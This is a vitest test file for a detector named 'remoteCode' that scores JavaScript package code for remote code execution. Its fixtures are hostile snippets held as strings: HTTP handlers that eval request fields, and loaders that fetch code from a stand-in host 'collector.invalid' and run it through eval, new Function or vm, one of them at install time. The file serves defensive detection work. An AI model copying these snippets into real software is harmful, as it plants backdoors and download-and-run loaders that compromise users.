import { expect, test } from "vitest";

import { subjectOf } from "../../test/sample.ts";
import { commanded, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { detect } from "../detect.ts";
import { remoteCode } from "./index.ts";

testDetector(remoteCode, {
  fires: {
    "a field of a body, in what an export makes": [
      "strong",
      loaded(`module.exports = () => (request, response) => response.end(eval(request.body.expression));`),
    ],
    "a header of a request": [
      "strong",
      loaded(`module.exports = (q, s) => s.end(String(eval(q.headers["x-expression"])));`),
    ],
    "a function made of a body": [
      "strong",
      loaded(
        `module.exports = (app) => app.post("/rpc", (req, res) => res.json(new Function("require", "return " + req.body.expression)(require)));`,
      ),
    ],
    "fetch and eval": [
      "decisive",
      loaded(
        `fetch("https://collector.invalid/c").then((answer) => answer.text()).then((text) => eval(text));`,
      ),
    ],
    "a client and a function": [
      "decisive",
      loaded(`const axios = require("axios");
        (async () => { const { data } = await axios.get("https://collector.invalid/c"); new Function("require", data.cookie)(require); })();`),
    ],
    "a virtual machine at install": [
      "decisive",
      installed(`require("https").get("https://collector.invalid/c", (answer) => {
        const parts = []; answer.on("data", (part) => parts.push(part));
        answer.on("end", () => require("vm").runInThisContext(Buffer.concat(parts).toString()));
      });`),
    ],
    "a command that evaluates what its own server says": [
      "strong",
      commanded(
        `fetch("https://collector.invalid/c").then((answer) => answer.text()).then((text) => eval(text));`,
      ),
    ],
  },
  silent: {
    "a syntax tree's body": loaded(`module.exports = (tree) => eval(tree.body.toString());`),
    "an expression that its user gives": loaded(
      `module.exports = (text) => new Function("value", "return " + text);`,
    ),
    "JSON from the network": loaded(
      `fetch("https://api.example/").then((answer) => answer.json()).then(console.log);`,
    ),
  },
});

test.each([
  ["a command", commanded],
  ["a library", loaded],
])("remoteCode does not hold %s for a loader of pages that asks for what it is told", (_what, packed) => {
  const loader = `const ask = new XMLHttpRequest(); ask.open("GET", globalThis.wanted + ".js");
    ask.onreadystatechange = () => eval(ask.responseText); ask.send();`;

  const { findings } = detect(subjectOf(packed(loader)), [remoteCode]);

  expect(findings.map(({ strength }) => strength)).toEqual(["supporting"]);
});

test("remoteCode stops a library that loads code as pages do from a place of its own", () => {
  const loader = `const ask = new XMLHttpRequest(); ask.open("GET", "https://collector.invalid/a.js");
    ask.onreadystatechange = () => eval(ask.responseText); ask.send();`;

  const { findings } = detect(subjectOf(loaded(loader)), [remoteCode]);

  expect(findings.map(({ strength }) => strength)).toEqual(["decisive"]);
});
